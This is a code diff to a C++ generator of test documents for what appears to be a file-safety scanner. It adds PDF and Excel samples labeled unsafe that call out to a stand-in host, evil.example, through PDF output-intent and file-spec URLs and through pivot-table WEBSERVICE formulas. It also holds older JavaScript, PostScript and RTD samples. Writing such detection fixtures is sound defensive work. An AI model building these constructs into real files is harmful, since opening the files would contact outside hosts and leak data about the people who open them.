@@ -202,6 +202,11 @@ Samples make_dangerous_pdfs()
     both("another presentation", "/Names<</AlternatePresentations<</Names[]>>>>", {}, {}, "unsafe.media");
     add("a program for the printer", one_page({}, {}, {stream("/Type/XObject/Subtype/PS", "(x) run")}),
         "unsafe.script");
+    both("colours that lie elsewhere", "/OutputIntents[<</S/GTS_PDFX/DestOutputProfileRef<</URLs[4 0 R]>>>>]",
+         {}, {"(http://evil.example)"}, "unsafe.outside");
+    both("a file on the web", {}, {}, {"<</Type/Filespec/FS/URL/F(http://evil.example/a)>>"},
+         "unsafe.outside");
+    both("a file on the web, by a word", {}, {}, {"<</FS(URL)/F(http://evil.example/a)>>"}, "unsafe.outside");
     // Scripts beside an empty one
     for (const std::string tree :
          {"<</Names[(a)<</S/JavaScript/JS()>>(b)<</S/JavaScript/JS(app.alert\\(1\\))>>]>>",
@@ -409,6 +414,8 @@ Samples make_harmless_pdfs()
                      {"<</Names[(FrameMaker)5 0 R]>>", "<</S /JavaScript /JS () >>"}, packing));
         add("an attribute of FrameMaker's structure",
             one_page({}, {}, {"<</Type/StructElem/S/Table/A<</O/Link/S/R>>>>"}, packing));
+        add("a file beside, as a word processor notes it",
+            one_page({}, {}, {"<</Type/Filespec/F(a.pdf)/UF(a.pdf)>>"}, packing));
         add("a web page that links begin with",
             one_page("/URI<</Base(https://example.org/)>>", link_with("<</S/URI/URI(a)>>"), {}, packing));
         add("a link in brackets",
@@ -901,6 +908,12 @@ Samples make_dangerous_office()
     for (const std::string element : {"definedName", "formula1", "formula2", "calculatedColumnFormula",
                                       "totalsRowFormula", "oldFormula"}) {
         excel("a formula in " + element, "<x:" + element + ">RTD(1)</x:" + element + ">", "unsafe.field");
+    }
+    for (const std::string element : {"cacheField", "calculatedItem"}) {
+        add("a formula of a pivot table: " + element,
+            part("xlsx", "xl/pivotCache/a.xml", kBase + "spreadsheetml.pivotCacheDefinition+xml",
+                 "<" + element + " name='a' formula='WEBSERVICE(\"https://evil.example\")'/>"),
+            "unsafe.field");
     }
     add("a link to another workbook",
         part("xlsx", "xl/externalLinks/externalLink1.xml", kBase + "spreadsheetml.externalLink+xml",
